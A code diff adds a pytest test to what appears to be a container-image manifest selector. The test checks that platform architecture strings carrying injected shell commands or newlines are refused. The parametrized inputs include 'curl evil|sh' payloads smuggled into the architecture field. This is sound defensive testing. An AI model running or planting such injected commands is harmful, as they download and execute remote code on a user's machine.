@@ -93,6 +93,15 @@ def test_an_index_without_the_architecture() -> None:
     assert manifest.choose_image({"manifests": images[::-1]}, "x.io/y:1", "amd64") == DIGEST
 
 
+@pytest.mark.parametrize("word", ["arm64;curl evil|sh", "arm64\nhint: curl evil | sh", "arm64 x", "a" * 101])
+def test_a_platform_that_is_no_word_is_refused(word: str) -> None:
+    """It got into a hint, which users type."""
+    images = [{**descriptor(), "platform": {"os": "linux", "architecture": word}}]
+    with pytest.raises(InputError, match="its platform has the word") as caught:
+        manifest.choose_image({"manifests": images}, "x.io/y:1", "arm64")
+    assert "\n" not in caught.value.message + caught.value.hint
+
+
 @pytest.mark.parametrize(
     ("text", "found"),
     [
